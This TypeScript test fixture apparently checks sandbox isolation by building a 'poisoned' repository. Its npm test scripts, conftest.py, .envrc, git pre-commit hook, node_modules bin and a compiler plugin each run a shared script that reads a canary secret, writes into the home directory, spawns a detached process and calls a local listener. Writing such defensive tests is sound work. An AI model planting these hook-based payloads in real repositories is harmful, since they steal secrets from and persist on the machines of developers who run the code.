/**
 * A repository that attacks whoever works on it: with every program that a change may start, it reads
 * a secret of the person, writes into their home, calls a server of the machine, and leaves a process.
 */
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { TempRepository } from '#workspace/fixtures/temp-repository.ts';
import { greeterRepository } from '../support/line-repository.ts';

/** Who attacks: each is a way in which a repository has its code run. */
export const ATTACKERS = [
  'conftest',
  'pretest',
  'test',
  'posttest',
  'pre-commit',
  'envrc',
  'bin',
  'plugin',
] as const;

/** What is attacked, and what came of it. */
export interface Target {
  /** What no program may learn. */
  readonly secret: string;
  /** What the program of an attack needs to know. */
  readonly aim: {
    readonly canary: string;
    readonly home: string;
    readonly port: number;
    readonly mark: string;
  };
  /** Attackers that reached the listener. */
  readonly heard: () => readonly string[];
  /** Attackers whose mark is in the home. */
  readonly marked: () => readonly string[];
  /** Processes that were left. */
  readonly left: () => readonly number[];
  /** Ends what was left, and the listener. */
  readonly close: () => void;
}

/** Makes one of a home. */
export async function openTarget(home: string): Promise<Target> {
  const secret = `secret-${randomUUID()}`;
  const mark = `mark-${randomUUID()}`;
  const canary = join(home, 'canary');
  writeFileSync(canary, secret);
  const heard = new Set<string>();
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', (name) => {
      heard.add(name.toString());
      socket.end();
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const marked = (): string[] => ATTACKERS.filter((name) => existsSync(join(home, `by-${name}`)));
  const left = (): number[] => processesWith(mark);
  const close = (): void => {
    for (const pid of left()) process.kill(pid, 'SIGKILL');
    server.close();
  };
  return {
    secret,
    aim: { canary, home, port, mark },
    heard: () => ATTACKERS.filter((name) => heard.has(name)),
    marked,
    left,
    close,
  };
}

function processesWith(mark: string): number[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/u.test(name))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(mark);
      } catch {
        return false;
      }
    })
    .map(Number);
}

/** Says that it tries, then tries all of it. It never fails, so that nothing stops the next. */
const ATTACK = `
const fs = require('node:fs');
const path = require('node:path');
module.exports = (name, aim) => {
  console.log('tried ' + name);
  const attempt = (act) => { try { act(); } catch {} };
  attempt(() => {
    const secret = fs.readFileSync(aim.canary, 'utf8');
    console.log('found ' + secret);
    fs.writeFileSync('stolen-by-' + name, secret);
  });
  attempt(() => {
    fs.mkdirSync(aim.home, { recursive: true });
    fs.writeFileSync(path.join(aim.home, 'by-' + name), '');
  });
  attempt(() => {
    const script = 'sleep 600; true';
    const options = { detached: true, stdio: 'ignore' };
    require('node:child_process').spawn('/bin/sh', ['-c', script, aim.mark], options).unref();
  });
  const socket = require('node:net').connect(aim.port, '127.0.0.1', () => socket.write(name));
  socket.on('error', () => {});
};
if (require.main === module) module.exports(process.argv[2], require('./aim.json'));
`;

const CALL = 'node attack.cjs';

/**
 * A greeter that attacks `target`. What it has installed, a program and a plugin for the compiler, is
 * not in git; nor is its hook.
 */
export function poisonedRepository({ aim }: Target): TempRepository {
  const scripts = Object.fromEntries(
    ['pretest', 'test', 'posttest'].map((name) => [name, `${CALL} ${name}`]),
  );
  const compilerOptions = {
    module: 'nodenext',
    allowImportingTsExtensions: true,
    noEmit: true,
    types: [],
    plugins: [{ name: 'poison' }],
  };
  const repository = greeterRepository({
    'package.json': JSON.stringify({ name: 'greeter', type: 'module', private: true, scripts }),
    'tsconfig.json': JSON.stringify({ compilerOptions }),
    'attack.cjs': ATTACK,
    'aim.json': JSON.stringify(aim),
    'conftest.py': `import subprocess\nsubprocess.run("${CALL} conftest", shell=True)\n`,
    'test_greeter.py': 'def test_nothing():\n    pass\n',
    '.envrc': `${CALL} envrc\n`,
  });
  const poison = { name: 'poison', main: 'index.js' };
  const plugin = `require('./attack.cjs')('plugin', ${JSON.stringify(aim)});\n`;
  repository.write('node_modules/poison/package.json', JSON.stringify(poison));
  repository.write('node_modules/poison/attack.cjs', ATTACK);
  repository.write('node_modules/poison/index.js', plugin);
  repository.write('node_modules/.bin/poison', `#!/bin/sh\n${CALL} bin\n`, 0o755);
  repository.write('.git/hooks/pre-commit', `#!/bin/sh\n${CALL} pre-commit\n`, 0o755);
  return repository;
}

/** Checks by which each attacker gets its turn, but for the hook. No compiler loads the plugin. */
export const CHECKS: readonly string[] = [
  'python3 -c "import conftest"',
  'npm test',
  '. ./.envrc',
  'node_modules/.bin/poison',
  'node -e "require(\'poison\')"',
];
